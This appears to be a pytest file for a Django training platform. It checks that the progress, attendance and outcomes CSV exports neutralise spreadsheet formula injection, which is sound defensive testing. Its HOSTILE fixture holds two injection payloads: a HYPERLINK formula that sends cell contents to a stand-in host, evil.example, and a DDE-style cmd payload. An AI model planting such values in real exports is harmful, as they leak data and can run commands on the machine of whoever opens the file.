"""Every CSV export goes through delivery.spreadsheets: text a spreadsheet would run as a
formula (a learner named `=HYPERLINK(...)`) is written with a leading apostrophe."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.utils import timezone

from delivery.services import enrol_learner
from delivery.spreadsheets import csv_writer, spreadsheet_text
from live import services as live_services
from tests.assessment.conftest import assess
from tests.factories import assessable_unit
from tests.live.factories import LiveSessionFactory

HOSTILE = {
    "first_name": '=HYPERLINK("https://evil.example/?"&A2,"Open")',
    "last_name": "+1+cmd|' /C calc'!A0",
    "email": "-2+3@example.test",
}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+61 400 000 000", "'+61 400 000 000"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Lena", "Lena"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),  # a number is data, never a formula
        (2.5, 2.5),
        (None, None),
    ],
)
def test_it_escapes_only_text_a_spreadsheet_would_run(value: Any, expected: Any) -> None:
    assert spreadsheet_text(value) == expected


def test_the_writer_writes_escaped_rows_and_returns_what_write_returns() -> None:
    out = io.StringIO()
    csv_writer(out).writerows([["=a", 1], ["b", -1]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=a", "1"], ["b", "-1"]]

    class Echo:
        def write(self, value: str) -> str:
            return value

    assert csv_writer(Echo()).writerow(["@x", "y"]) == "'@x,y\r\n"


def _hostile(user: Any) -> Any:
    for field, value in HOSTILE.items():
        setattr(user, field, value)
    user.save()
    return user


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_escaped(text: str) -> None:
    cells = _cells(text)
    for value in HOSTILE.values():
        assert value not in cells
        assert "'" + value in cells


def test_the_progress_csv_escapes_names(
    client_for: Any, trainer: Any, cohort: Any, learner: Any
) -> None:
    enrol_learner(_hostile(learner), cohort)
    response = client_for(trainer).get(f"/learn/cohorts/{cohort.pk}/progress.csv")
    assert response.status_code == 200
    _assert_escaped(response.content.decode())


def test_the_attendance_csv_escapes_names(
    client_for: Any, trainer: Any, cohort: Any, learner: Any
) -> None:
    enrol_learner(_hostile(learner), cohort)
    session = LiveSessionFactory(cohort=cohort, created_by=trainer)
    live_services.join(session, learner, socket="s1", learner=True)
    response = client_for(trainer).get(f"/live/{session.pk}/attendance.csv")
    assert response.status_code == 200
    _assert_escaped(response.content.decode())


def test_the_outcomes_csv_escapes_names(
    client_for: Any, auditor: Any, assessor: Any, cohort: Any, learner: Any
) -> None:
    enrol_learner(_hostile(learner), cohort)
    assess(learner, assessor, cohort, assessable_unit(course=cohort.course, items=2), files=False)
    response = client_for(auditor).get("/assess/records/outcomes.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    _assert_escaped(text)
    assert timezone.localdate().isoformat() in text
